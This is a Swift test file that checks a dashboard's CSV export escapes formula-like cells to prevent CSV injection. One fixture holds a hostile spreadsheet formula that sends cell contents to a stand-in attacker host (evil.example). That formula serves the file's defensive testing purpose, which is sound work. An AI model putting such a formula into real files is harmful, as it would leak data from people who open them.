import Foundation
import Records
@testable import Report
import XCTest

/// The CSV files are opened in spreadsheets: a record value that starts like a formula is
/// written so that it shows as text and never runs (OWASP, CSV injection).
final class OpenDataTests: XCTestCase {
    func testCellsThatStartLikeAFormulaGetAnApostrophe() {
        let cells = ["=1+1", "+33 1 23", "-2", "@SUM(A1:A2)", "\tx", "\rx", "\nx", "＝1+1", "plain", "a=b", "", "2026-12-01", "'quoted"]
        let csv = String(decoding: OpenData.csv(["value"], cells.map { [$0] }), as: UTF8.self)
        XCTAssertEqual(csv.components(separatedBy: "\r\n"), [
            "value", "'=1+1", "'+33 1 23", "'-2", "'@SUM(A1:A2)", "'\tx", "\"'\rx\"", "\"'\nx\"", "'＝1+1",
            "plain", "a=b", "", "2026-12-01", "'quoted", "",
        ])
    }

    func testAHostileTitleIsNeutralizedInTheDashboardsCSV() throws {
        let plan = try Fixtures.sampleCopy(self)
        try Fixtures.edit(plan, "commitments/01/commitment.yaml",
                          replacing: #"en: "Citizens' budget and open budget data""#,
                          with: #"en: '=HYPERLINK("http://evil.example/?"&A1,"Click")'"#)
        let site = try Fixtures.temporaryDirectory(self, "site")
        try Dashboard(snapshot: Fixtures.snapshot(plan), language: .en, asOf: Fixtures.asOf).write(to: site)
        let csv = try Fixtures.read(site.appendingPathComponent("commitments.csv"))
        XCTAssertTrue(csv.contains(#",1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","#), csv)
        XCTAssertFalse(csv.contains(#","=HYPERLINK"#))
        // data.json keeps the value as the record holds it: JSON is not opened as a sheet.
        let json = try Fixtures.read(site.appendingPathComponent("data.json"))
        XCTAssertTrue(json.contains(#""en" : "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")""#), json)
    }
}
